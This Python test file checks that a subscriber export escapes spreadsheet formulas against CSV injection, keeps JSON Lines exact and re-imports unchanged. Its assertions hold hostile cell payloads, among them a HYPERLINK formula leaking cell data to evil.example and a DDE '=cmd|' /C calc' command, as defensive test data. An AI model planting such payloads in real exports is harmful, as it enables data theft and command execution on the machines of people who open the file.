"""Subscriber export as staff open it in a spreadsheet: no cell runs as a formula (OWASP "CSV
Injection"); JSON Lines stays exact; the CSV imports back unchanged."""

import csv
import json
import re
from pathlib import Path

import pytest
from support.cli import invoke_cli

from publisher.subscribers.spreadsheet import FORMULA_STARTS, neutralize, restore

HOSTILE = Path(__file__).parent / "data" / "hostile" / "inputs_formula.csv"


@pytest.fixture
def run(config_file, monkeypatch):
    monkeypatch.setenv("PUBLISHER_SECRET", "cli-test-secret")

    def invoke(*args):
        return invoke_cli(config_file, *args)

    assert invoke("init").exit_code == 0
    imported = invoke("subscribers", "import", str(HOSTILE))
    assert imported.exit_code == 0, imported.output
    return invoke


def test_no_exported_cell_starts_a_formula(run, tmp_path):
    out = tmp_path / "export.csv"
    assert run("subscribers", "export", "--out", str(out)).exit_code == 0
    raw = out.read_text(encoding="utf-8")
    rows = list(csv.reader(raw.splitlines(keepends=True)))
    assert len(rows) == 6
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    header = rows[0]
    assert '\'=hyperlink("https://evil.example/?"&a2;"x")' in header
    assert "'@role" in header
    by_email = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert by_email["egal@example.org"]["name"] == '\'=HYPERLINK("https://evil.example/?"&A3;"Cliquez")'
    assert by_email["egal@example.org"]["consent_source"] == "'=cmd|' /C calc'!A0"
    assert by_email["egal@example.org"]["bassin"] == "'+33 6 12 34 56 78"
    assert by_email["plus@example.org"]["name"] == "'+SUM(1;2)"
    assert by_email["plus@example.org"]["'@role"] == "'@admin"
    assert by_email["wide@example.org"]["name"] == "'＝1+1"
    assert by_email["wide@example.org"]["bassin"] == "'=1+1"  # imported as =1+1: the import takes a quote off
    assert by_email["calme@example.org"]["name"] == "Jean-Marc Dupont"
    # Every cell is quoted, so a separator or a quote inside one never starts a new cell.
    assert re.fullmatch(r'("([^"]|"")*"[,\n])*', raw)


def test_jsonl_export_stays_exact(run):
    exported = run("subscribers", "export", "--format", "jsonl")
    records = {record["email"]: record for record in map(json.loads, exported.stdout.splitlines())}
    assert records["egal@example.org"]["name"] == '=HYPERLINK("https://evil.example/?"&A3;"Cliquez")'
    assert records["plus@example.org"]["attributes"]["@role"] == "@admin"
    assert records["tab@example.org"]["attributes"]["@role"] == "a\n=1+1"
    assert records["wide@example.org"]["attributes"]["bassin"] == "=1+1"
    assert records["wide@example.org"]["attributes"]['=hyperlink("https://evil.example/?"&a2;"x")'] == "'@x"


def test_exported_csv_imports_back_unchanged(run, tmp_path):
    before = run("subscribers", "export", "--format", "jsonl").stdout
    out = tmp_path / "export.csv"
    run("subscribers", "export", "--out", str(out))
    again = run("subscribers", "import", str(out))
    assert again.exit_code == 0, again.output
    assert "0 inserted, 0 updated, 5 unchanged" in again.stdout
    assert run("subscribers", "export", "--format", "jsonl").stdout == before


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "'=1", "''+1", "'", "", "a=1", "'abc"]
)
def test_neutralize_then_restore_gives_the_cell_back(cell):
    written = neutralize(cell)
    assert not written.startswith(FORMULA_STARTS)
    assert restore(written) == cell
